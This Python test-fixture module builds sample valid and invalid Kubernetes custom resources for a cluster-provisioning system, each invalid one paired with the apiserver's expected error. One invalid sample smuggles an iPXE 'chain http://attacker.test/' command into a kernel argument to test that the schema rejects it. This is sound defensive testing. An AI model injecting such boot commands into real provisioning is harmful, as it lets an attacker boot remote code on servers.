"""Sample objects of every kind: valid ones, and invalid ones with the message the apiserver answers.

Unit tests parse them with the models; integration tests apply them to a real apiserver to prove the
generated CRDs accept what the models accept and reject, with a readable message, what they must.
Objects carry no namespace: the caller puts them where it wants (Hypervisor is cluster-scoped).
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Any

from capfleet.api import kinds

Obj = dict[str, Any]


def _object(kind: kinds.Kind[Any], name: str, spec: Obj) -> Obj:
    return {
        "apiVersion": kind.resource.api_version,
        "kind": kind.kind,
        "metadata": {"name": name},
        "spec": spec,
    }


def _vm_machine_spec() -> Obj:
    return {
        "vm": {
            "vcpus": 2,
            "memoryMiB": 2048,
            "disks": [{"sizeGiB": 20, "image": "debian-12"}, {"name": "data", "sizeGiB": 10}],
            "hypervisorSelector": {"matchLabels": {"capfleet.dev/pool": "lab"}},
        },
        "network": {
            "interfaces": [
                {
                    "name": "eth0",
                    "bridge": "br0",
                    "default": True,
                    "ipPoolRefs": [{"apiGroup": kinds.IPAM_GROUP, "kind": "HybridIPPool", "name": "nodes"}],
                }
            ]
        },
    }


def _baremetal_machine_spec() -> Obj:
    return {
        "baremetal": {
            "deviceSelector": {
                "site": "dc1",
                "role": "server",
                "tags": ["k8s"],
                "customFields": {"tier": "gold"},
            },
            "bootInterface": "eno1",
            "image": {
                "url": "https://images.example.test/capfleet-node.raw",
                "checksum": "https://images.example.test/capfleet-node.raw.sha256",
            },
            "rootDeviceHints": {"minSizeGigabytes": 20},
        },
        "network": {"interfaces": [{"name": "eno1", "default": True}]},
    }


def _hybrid_cluster_spec() -> Obj:
    return {
        "controlPlaneEndpoint": {"host": "192.0.2.10", "port": 6443},
        "netbox": {"connectionSecretRef": {"name": "netbox"}},
        "hypervisorSelector": {"matchLabels": {"capfleet.dev/pool": "lab"}},
        "failureDomains": [
            {"name": "fd-a", "controlPlane": True, "hypervisorSelector": {"matchLabels": {"zone": "a"}}},
            {"name": "fd-b", "deviceSelector": {"site": "dc2"}},
        ],
        "nameservers": ["192.0.2.53", "2001:db8::53"],
        "domain": "example.test",
        "baremetal": {
            "bmcCredentialsSecretRef": {"name": "bmc"},
            "bmcAddressTemplate": "redfish+https://{address}/redfish/v1/Systems/1",
            "bootServerURL": "http://192.0.2.1:8080",
        },
    }


def valid_samples() -> list[Obj]:
    """One valid object of every kind, in `kinds.ALL` order."""
    return [
        _object(kinds.HYBRID_CLUSTER, "sample", _hybrid_cluster_spec()),
        _object(
            kinds.HYBRID_CLUSTER_TEMPLATE,
            "sample",
            {"template": {"metadata": {"labels": {"a": "b"}}, "spec": _hybrid_cluster_spec()}},
        ),
        _object(kinds.HYBRID_MACHINE, "sample", _vm_machine_spec()),
        _object(kinds.HYBRID_MACHINE_TEMPLATE, "sample", {"template": {"spec": _baremetal_machine_spec()}}),
        _object(
            kinds.HYBRID_IPPOOL,
            "sample",
            {
                "addresses": ["10.0.0.0/28", "10.0.1.10-10.0.1.20", "10.0.2.5"],
                "prefix": 16,
                "gateway": "10.0.0.1",
                "excludedAddresses": ["10.0.0.2"],
                "nameservers": ["10.0.0.53"],
            },
        ),
        _object(
            kinds.NETBOX_IPPOOL,
            "sample",
            {
                "connectionSecretRef": {"name": "netbox"},
                "prefixes": [{"id": 7}, {"cidr": "10.1.0.0/24", "vrf": "prod"}],
                "ipRanges": [{"startAddress": "10.2.0.10/24", "endAddress": "10.2.0.50/24"}],
                "gateway": "10.1.0.1",
                "tenant": "team-a",
                "tags": ["k8s"],
                "dnsNameTemplate": "{name}.{namespace}.example.test",
                "releasePolicy": "Keep",
            },
        ),
        _object(
            kinds.NETBOX_DEVICE,
            "sample",
            {
                "connectionSecretRef": {"name": "netbox"},
                "selector": {
                    "site": "dc1",
                    "role": "server",
                    "tags": ["k8s"],
                    "customFields": {"tier": "gold"},
                },
                "claim": {"tenant": "team-a", "description": "worker of cluster sample"},
            },
        ),
        _object(
            kinds.NETBOX_VIRTUAL_MACHINE,
            "sample",
            {
                "connectionSecretRef": {"name": "netbox"},
                "name": "sample-cp-0",
                "cluster": "lab",
                "vcpus": 2,
                "memoryMiB": 2048,
                "diskGiB": 20,
                "interfaces": [
                    {"name": "eth0", "macAddress": "52:54:00:12:34:56", "addresses": ["10.0.0.5/16"]}
                ],
            },
        ),
        _object(
            kinds.HYPERVISOR,
            "sample",
            {
                "connection": {"host": "hv1.example.test", "user": "capfleet"},
                "sshKeySecretRef": {"name": "hv1-ssh", "namespace": "capfleet-system"},
                "knownHostsSecretRef": {"name": "hv1-ssh", "namespace": "capfleet-system"},
                "failureDomain": "fd-a",
                "reserved": {"vcpus": 2, "memoryMiB": 4096},
            },
        ),
        _object(
            kinds.LIBVIRT_VM,
            "sample",
            {
                "hypervisorSelector": {"matchLabels": {"capfleet.dev/pool": "lab"}},
                "antiAffinityKey": "sample-control-plane",
                "vcpus": 2,
                "memoryMiB": 2048,
                "disks": [{"name": "root", "sizeGiB": 20, "sourceImage": "debian-12"}],
                "interfaces": [
                    {
                        "bridge": "br0",
                        "macAddress": "52:54:00:12:34:56",
                        "addresses": ["10.0.0.5/16"],
                        "gateway": "10.0.0.1",
                        "nameservers": ["10.0.0.53"],
                    }
                ],
                "cloudInit": {"userDataSecretRef": {"name": "sample-bootstrap"}, "hostname": "sample-cp-0"},
            },
        ),
        _object(kinds.VM_QUOTA, "sample", {"hard": {"vcpus": 16, "memoryMiB": 65536, "storageGiB": 300}}),
        _object(
            kinds.BAREMETAL_INSTANCE,
            "sample",
            {
                "bmc": {
                    "address": "redfish+https://192.0.2.100:8000/redfish/v1/Systems/0a1b",
                    "credentialsSecretRef": {"name": "bmc"},
                },
                "bootMACAddress": "52:54:00:ab:cd:ef",
                "image": {
                    "url": "https://images.example.test/capfleet-node.qcow2",
                    "checksum": "ab" * 32,
                    "format": "qcow2",
                },
                "rootDeviceHints": {"deviceName": "/dev/sda"},
                "userDataSecretRef": {"name": "sample-bootstrap"},
                "networkData": {"version": 2, "ethernets": {"eno1": {"dhcp4": True}}},
                "hostname": "sample-worker-0",
            },
        ),
    ]


@dataclass(frozen=True)
class Invalid:
    """An object the apiserver must refuse: on create, or on the update from `before` when that is set."""

    name: str
    obj: Obj
    message: str
    """A fragment of the apiserver's answer."""
    before: Obj | None = None


def _sample(kind: kinds.Kind[Any]) -> Obj:
    return copy.deepcopy(next(s for s in valid_samples() if s["kind"] == kind.kind))


def invalid_samples() -> list[Invalid]:
    """Objects that break a rule of the CRDs, each with a fragment of the message it is refused with."""
    both = _sample(kinds.HYBRID_MACHINE)
    both["spec"]["baremetal"] = _baremetal_machine_spec()["baremetal"]
    bad_cidr = _sample(kinds.HYBRID_IPPOOL)
    bad_cidr["spec"]["addresses"].append("10.0.0.0/33")
    bad_range = _sample(kinds.HYBRID_IPPOOL)
    bad_range["spec"]["addresses"] = ["10.0.0.1-2001:db8::1"]
    missing = _sample(kinds.LIBVIRT_VM)
    del missing["spec"]["vcpus"]
    placed = _sample(kinds.LIBVIRT_VM)
    placed["spec"]["hypervisorName"] = "hv1"
    moved = copy.deepcopy(placed)
    moved["spec"]["hypervisorName"] = "hv2"
    with_id = _sample(kinds.HYBRID_MACHINE)
    with_id["spec"]["providerID"] = "capfleet://vm/hv1/default-sample"
    changed_id = copy.deepcopy(with_id)
    changed_id["spec"]["providerID"] = "capfleet://vm/hv2/default-sample"
    prefix = _sample(kinds.NETBOX_IPPOOL)
    prefix["spec"]["prefixes"] = [{"id": 7, "cidr": "10.1.0.0/24"}]
    nic = _sample(kinds.LIBVIRT_VM)
    nic["spec"]["interfaces"][0]["network"] = "default"
    installer = {
        "kernelURL": "http://boot.example.test/vmlinuz",
        "initrdURL": "http://boot.example.test/initrd",
    }
    image_and_installer = _sample(kinds.BAREMETAL_INSTANCE)
    image_and_installer["spec"]["os"] = installer
    neither = _sample(kinds.BAREMETAL_INSTANCE)
    del neither["spec"]["image"]
    hints_for_installer = copy.deepcopy(neither)
    hints_for_installer["spec"]["os"] = installer
    hints_for_installer["spec"]["rootDeviceHints"] = {"deviceName": "/dev/sda"}
    template_both = _sample(kinds.HYBRID_MACHINE_TEMPLATE)
    template_both["spec"]["template"]["spec"]["baremetal"]["osProfile"] = installer
    bad_checksum = _sample(kinds.BAREMETAL_INSTANCE)
    bad_checksum["spec"]["image"]["checksum"] = "md5:0123"
    injected = copy.deepcopy(neither)
    injected["spec"]["os"] = {**installer, "kernelArgs": ["console=ttyS0\nchain http://attacker.test/"]}
    return [
        Invalid("vm and baremetal both set", both, "exactly one of spec.vm and spec.baremetal must be set"),
        Invalid("bad CIDR in a HybridIPPool", bad_cidr, "must be an IP address, a CIDR"),
        Invalid("range mixing families", bad_range, "must be an IP address, a CIDR"),
        Invalid("missing required field", missing, "spec.vcpus: Required value"),
        Invalid("hypervisorName changed", moved, "hypervisorName is immutable once set", before=placed),
        Invalid("providerID changed", changed_id, "providerID is immutable once set", before=with_id),
        Invalid("NetBox prefix by id and cidr", prefix, "exactly one of id and cidr must be set"),
        Invalid(
            "NIC on a bridge and a network", nic, "exactly one of bridge, network and userMode must be set"
        ),
        Invalid("image and installer", image_and_installer, "exactly one of image (deploy ramdisk) and os"),
        Invalid("neither image nor installer", neither, "exactly one of image (deploy ramdisk) and os"),
        Invalid("root device hints for an installer", hints_for_installer, "rootDeviceHints need image"),
        Invalid("machine with image and osProfile", template_both, "exactly one of image and osProfile"),
        Invalid("checksum neither digest nor URL", bad_checksum, "spec.image.checksum"),
        Invalid("iPXE command in a kernel argument", injected, "spec.os.kernelArgs[0]"),
    ]
